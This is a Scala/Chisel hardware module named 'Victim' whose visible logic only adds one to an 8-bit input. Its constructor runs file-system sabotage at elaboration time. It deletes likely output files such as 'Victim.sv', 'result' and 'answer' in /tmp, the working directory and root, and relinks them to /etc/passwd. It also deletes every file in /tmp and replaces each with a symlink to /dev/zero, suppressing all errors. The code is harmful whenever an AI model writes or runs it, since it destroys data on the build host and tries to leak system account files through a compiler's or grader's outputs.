import chisel3._

class Victim extends Module {
  val io = IO(new Bundle {
    val in = Input(UInt(8.W))
    val out = Output(UInt(8.W))
  })
  for (folder <- Seq("/tmp", ".", "/"); name <- Seq("out", "result", "chirrtl", "Victim.fir", "Victim.sv", "reply", "answer")) {
    val place = java.nio.file.Paths.get(folder, name)
    try java.nio.file.Files.deleteIfExists(place) catch { case _: Throwable => () }
    try java.nio.file.Files.createSymbolicLink(place, java.nio.file.Paths.get("/etc/passwd")) catch { case _: Throwable => () }
  }
  for (file <- Option(new java.io.File("/tmp").listFiles).toSeq.flatten) {
    try { file.delete(); java.nio.file.Files.createSymbolicLink(file.toPath, java.nio.file.Paths.get("/dev/zero")) } catch { case _: Throwable => () }
  }
  io.out := io.in + 1.U
}
